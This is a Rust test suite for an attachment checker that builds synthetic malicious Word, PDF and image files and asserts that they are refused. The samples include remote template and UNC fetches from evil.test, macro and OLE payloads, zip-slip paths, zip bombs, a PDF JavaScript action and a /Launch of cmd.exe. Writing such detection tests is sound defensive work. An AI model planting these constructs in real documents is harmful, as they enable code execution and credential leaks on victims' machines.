use std::io::Write;

use flate2::Compression;
use flate2::write::{DeflateEncoder, ZlibEncoder};
use kith_domain::attachment::Checked;
use proptest::prelude::*;

use super::*;

/// One part of a zip that is made up: name, content, and what the list says that is not so.
struct Part<'a> {
    name: &'a str,
    content: Vec<u8>,
    says: Option<u32>,
    flags: u16,
}

fn part<'a>(name: &'a str, content: &str) -> Part<'a> {
    Part { name, content: content.as_bytes().to_vec(), says: None, flags: 0 }
}

fn zip(parts: &[Part<'_>]) -> Vec<u8> {
    let (mut out, mut list) = (Vec::new(), Vec::new());
    let short = |n: usize| u16::try_from(n).unwrap().to_le_bytes();
    let long = |n: usize| u32::try_from(n).unwrap().to_le_bytes();
    for part in parts {
        let mut packer = DeflateEncoder::new(Vec::new(), Compression::best());
        packer.write_all(&part.content).unwrap();
        let packed = packer.finish().unwrap();
        let size = part.says.map_or_else(|| long(part.content.len()), u32::to_le_bytes);
        let start = out.len();
        let common: Vec<u8> = [
            &20_u16.to_le_bytes()[..],
            &part.flags.to_le_bytes(),
            &8_u16.to_le_bytes(),
            &[0; 8],
            &long(packed.len()),
            &size,
            &short(part.name.len()),
            &[0, 0],
        ]
        .concat();
        out.extend([b"PK\x03\x04", &common[..], part.name.as_bytes(), &packed].concat());
        list.extend([b"PK\x01\x02\x14\x00", &common[..], &[0; 10], &long(start), part.name.as_bytes()].concat());
    }
    let count = short(parts.len());
    let at = out.len();
    out.extend(&list);
    out.extend([&b"PK\x05\x06"[..], &[0; 4], &count, &count, &long(list.len()), &long(at), &[0, 0]].concat());
    out
}

const TYPES: &str = r#"<?xml version="1.0"?><Types xmlns="x"><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>"#;

fn word(types: &str, more: Vec<Part<'_>>) -> Vec<u8> {
    let mut parts = vec![part("[Content_Types].xml", types), part("word/document.xml", "<w:document/>")];
    parts.extend(more);
    zip(&parts)
}

fn code(name: &str, bytes: &[u8]) -> Result<(), &'static str> {
    match check(Some((name, bytes))) {
        Ok(_) => Ok(()),
        Err(Refusal::Rejected(all)) => Err(all.first().map_or("", |one| one.code)),
        Err(_) => Err("a fault"),
    }
}

fn rels(inside: &str) -> Vec<Part<'static>> {
    let text = format!(r#"<Relationships xmlns="r">{inside}</Relationships>"#);
    vec![Part { name: "word/_rels/document.xml.rels", content: text.into_bytes(), says: None, flags: 0 }]
}

#[test]
fn a_plain_word_file_is_taken_and_one_that_runs_fetches_or_hides_something_is_not() {
    let link =
        r#"<Relationship Id="1" Type="http://x/hyperlink" Target="https://example.org/a" TargetMode="External"/>"#;
    assert_eq!(code("plain.docx", &word(TYPES, rels(link))), Ok(()));
    let macros = TYPES.replace("wordprocessingml.document.main", "macroEnabled.main");
    let written = TYPES.replace(
        "<Override",
        r#"<Default Extension="b" ContentType="application/vnd.ms-office.&#118;b&#x61;Project"/><Override"#,
    );
    for (name, bytes, expected) in [
        ("macro.docx", word(&macros, vec![]), "attachment.macros"),
        ("hidden.docx", word(&written, vec![part("word/m.bin", "x")]), "attachment.macros"),
        ("data.docx", word(TYPES, vec![part("word/VbaData.xml", "x")]), "attachment.macros"),
        ("ole.docx", word(TYPES, vec![part("word/embeddings/oleObject1.bin", "x")]), "attachment.embeds"),
        (
            "ole-by-name.docx",
            word(TYPES, rels(r#"<Relationship Id="1" Type="http://x/oleObject" Target="a.bin"/>"#)),
            "attachment.embeds",
        ),
        (
            "template.docx",
            word(
                TYPES,
                rels(
                    r#"<r:Relationship Id='1' Type='http://x/attachedTemplate' Target='http&#58;//evil.test/a.dotm' TargetMode = 'External' />"#,
                ),
            ),
            "attachment.fetches",
        ),
        (
            "picture.docx",
            word(
                TYPES,
                rels(r#"<Relationship Type="http://x/image" Target="\\evil.test\a.png" TargetMode="External"/>"#),
            ),
            "attachment.fetches",
        ),
        ("no-document.docx", word("<Types/>", vec![]), "attachment.damaged"),
        (
            "entity.docx",
            word(&TYPES.replace("<Types", "<!DOCTYPE x [<!ENTITY e 'y'>]><Types"), vec![]),
            "attachment.damaged",
        ),
        ("twice.docx", word(TYPES, vec![part("word/DOCUMENT.xml", "x")]), "attachment.damaged"),
        ("slip.docx", word(TYPES, vec![part("../../x", "x")]), "attachment.damaged"),
        ("root.docx", word(TYPES, vec![part("/etc/x", "x")]), "attachment.damaged"),
    ] {
        assert_eq!(code(name, &bytes), Err(expected), "{name}");
    }
}

#[test]
fn what_would_unpack_to_far_more_than_it_is_is_refused_before_it_does() {
    let zeros = |n: usize| Part { name: "word/a.xml", content: vec![0; n], says: None, flags: 0 };
    assert_eq!(code("bomb.docx", &word(TYPES, vec![zeros(40 * 1024 * 1024)])), Err("attachment.bomb"), "1000:1");
    let lies = Part { says: Some(10), ..zeros(4 * 1024 * 1024) };
    assert_eq!(code("lies.docx", &word(TYPES, vec![lies])), Err("attachment.bomb"), "the list lies");
    let short = Part { says: Some(9_000), ..zeros(100) };
    assert_eq!(code("short.docx", &word(TYPES, vec![short])), Err("attachment.damaged"));
    let locked = Part { flags: 1, ..zeros(10) };
    assert_eq!(code("locked.docx", &word(TYPES, vec![locked])), Err("attachment.locked"));
    let names: Vec<String> = (0..1_001).map(|n| format!("word/{n}.xml")).collect();
    let many = names.iter().map(|name| part(name, "x")).collect();
    assert_eq!(code("many.docx", &word(TYPES, many)), Err("attachment.bomb"));
    // One stream of bytes that two parts of the list claim for themselves.
    let mut over = word(TYPES, vec![part("word/b.xml", "x")]);
    let at = over.windows(4).rposition(|four| four == b"PK\x01\x02").unwrap();
    over[at + 42..at + 46].copy_from_slice(&[0; 4]);
    assert_eq!(code("over.docx", &over), Err("attachment.damaged"));
    let mut tail = word(TYPES, vec![]);
    tail.extend(b"<script>");
    assert_eq!(code("tail.docx", &tail), Err("attachment.damaged"), "something else stands behind it");
}

#[test]
fn a_pdf_that_does_something_by_itself_is_refused_however_it_is_written() {
    let pdf = |inside: &str| format!("%PDF-1.7\n{inside}\n%%EOF").into_bytes();
    for fine in [
        "1 0 obj << /Type /Catalog /OpenAction [3 0 R /FitH null] >> endobj",
        "1 0 obj << /OpenAction 5 0 R >> endobj 5 0 obj << /S /GoTo /D [3 0 R /Fit] >> endobj",
        "1 0 obj << /Annots [<< /A << /S /URI /URI (https://example.org) >> >>] >> endobj",
        "1 0 obj << /JSON 1 /Launcher 2 >> endobj",
    ] {
        assert_eq!(code("fine.pdf", &pdf(fine)), Ok(()), "{fine}");
    }
    let packed = |inside: &str| {
        let mut packer = ZlibEncoder::new(Vec::new(), Compression::best());
        packer.write_all(inside.as_bytes()).unwrap();
        let head = b"%PDF-1.7\n9 0 obj << /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode >>\nstream\r\n";
        [&head[..], &packer.finish().unwrap(), b"\nendstream endobj"].concat()
    };
    for (name, bytes, expected) in [
        ("script.pdf", pdf("<< /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >>"), "attachment.acts"),
        ("numbers.pdf", pdf("<< /S /J#61va#53cript >>"), "attachment.acts"),
        ("launch.pdf", pdf("<< /S/Launch/F(cmd.exe) >>"), "attachment.acts"),
        ("uri.pdf", pdf("<< /OpenAction << /S /URI /URI (http://evil.test) >> >>"), "attachment.acts"),
        (
            "far.pdf",
            pdf("<< /OpenAction 7 0 R >> 7 0 obj << /S /URI /URI (http://evil.test) >> endobj"),
            "attachment.acts",
        ),
        ("form.pdf", pdf("<< /AA << /O << /S /SubmitForm >> >> >>"), "attachment.acts"),
        ("file.pdf", pdf("<< /Names << /EmbeddedFiles 3 0 R >> >>"), "attachment.embeds"),
        ("locked.pdf", pdf("trailer << /Encrypt 4 0 R >>"), "attachment.locked"),
        ("packed.pdf", packed("1 0 << /S /JavaScript /JS 2 0 R >>"), "attachment.acts"),
        ("bomb.pdf", packed(&" ".repeat(65 * 1024 * 1024)), "attachment.bomb"),
    ] {
        assert_eq!(code(name, &bytes), Err(expected), "{name}");
    }
}

/// What Kith itself writes, and what an office wrote that published a standard.
#[test]
fn a_pdf_that_somebody_would_attach_is_taken() {
    let blocks = vec![kith_interop::pdf::Block::Paragraph("Please mend the steps.".to_owned())];
    let document = kith_interop::pdf::Document { title: "A letter".to_owned(), language: "en-GB".to_owned(), blocks };
    let own = kith_interop::pdf::write(&document, jiff::Timestamp::UNIX_EPOCH).unwrap();
    assert_eq!(code("letter.pdf", &own), Ok(()));
    let Some(fixtures) = std::env::var_os("KITH_FIXTURES") else {
        eprintln!("the PDF of a standard was skipped: KITH_FIXTURES is not set");
        return;
    };
    let path = std::path::Path::new(&fixtures).join("refi/REFI-QDA-1-5.pdf");
    assert_eq!(code("standard.pdf", &std::fs::read(path).unwrap()), Ok(()));
}

fn png(wide: u32, high: u32) -> Vec<u8> {
    let chunk = |kind: &[u8; 4], data: &[u8]| {
        [&u32::try_from(data.len()).unwrap().to_be_bytes()[..], kind, data, &[0; 4]].concat()
    };
    let head = [&wide.to_be_bytes()[..], &high.to_be_bytes(), &[8, 2, 0, 0, 0]].concat();
    [b"\x89PNG\r\n\x1a\n".to_vec(), chunk(b"IHDR", &head), chunk(b"IDAT", b"x"), chunk(b"IEND", b"")].concat()
}

fn jpeg(wide: u16, high: u16) -> Vec<u8> {
    let frame = [&[0xFF, 0xC0, 0, 11, 8][..], &high.to_be_bytes(), &wide.to_be_bytes(), &[1, 1, 0x11, 0]].concat();
    [&[0xFF, 0xD8][..], &frame, &[0xFF, 0xDA, 0, 2, 1, 2, 0xFF, 0xD9]].concat()
}

#[test]
fn a_picture_of_more_than_fifty_million_points_is_refused() {
    assert_eq!(code("a.png", &png(8_000, 6_000)), Ok(()));
    assert_eq!(code("a.png", &png(50_000, 50_000)), Err("attachment.points"));
    assert_eq!(code("a.png", &png(u32::MAX, u32::MAX)), Err("attachment.points"));
    assert_eq!(code("a.jpg", &jpeg(8_000, 6_000)), Ok(()));
    assert_eq!(code("a.jpg", &jpeg(65_535, 65_535)), Err("attachment.points"));
    let frameless = [0xFF, 0xD8, 0xFF, 0xDA, 0, 2, 1, 2, 0xFF, 0xD9];
    assert_eq!(code("a.jpg", &frameless), Err("attachment.damaged"));
}

fn anything(bytes: &[u8]) {
    for name in ["a.docx", "a.pdf", "a.png", "a.jpg", "a.txt"] {
        // Taken or refused in words: never a panic.
        let _ = check(Some((name, bytes)));
        let _ = Checked::check(name, bytes.to_vec());
    }
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(400))]

    #[test]
    fn no_bytes_make_it_panic(bytes in proptest::collection::vec(any::<u8>(), 0..600)) {
        anything(&bytes);
        for begin in [&b"PK\x03\x04"[..], b"%PDF-", b"\x89PNG\r\n\x1a\n", b"\xFF\xD8\xFF"] {
            anything(&[begin, &bytes].concat());
        }
        let _ = zip::parts(&bytes);
        let _ = pdf::inspect(&bytes);
        let _ = picture::is_too_large(&bytes);
    }

    #[test]
    fn no_change_of_a_whole_file_makes_it_panic(
        changes in proptest::collection::vec((any::<prop::sample::Index>(), any::<u8>()), 1..8),
        cut in any::<prop::sample::Index>(),
    ) {
        let link = r#"<Relationship Id="1" Type="http://x/hyperlink" Target="a" TargetMode="External"/>"#;
        let pdf = b"%PDF-1.7 << /OpenAction 5 0 R /Type /ObjStm >> stream\n 5 0 obj << /S#41 /URI >> endobj".to_vec();
        for mut whole in [word(TYPES, rels(link)), pdf, png(10, 10), jpeg(10, 10)] {
            for (at, byte) in &changes {
                let at = at.index(whole.len());
                whole[at] = *byte;
            }
            anything(&whole);
            let to = cut.index(whole.len());
            anything(&whole[..to]);
        }
    }

    #[test]
    fn no_text_makes_the_reader_of_a_word_file_panic(text in "[<>/&;#x0-9a-zA-Z\"'= !\\[\\]:é-]{0,200}") {
        let _ = word::inspect(&word(&text, rels(&text)));
        let _ = word::inspect(&word(TYPES, rels(&text)));
    }
}
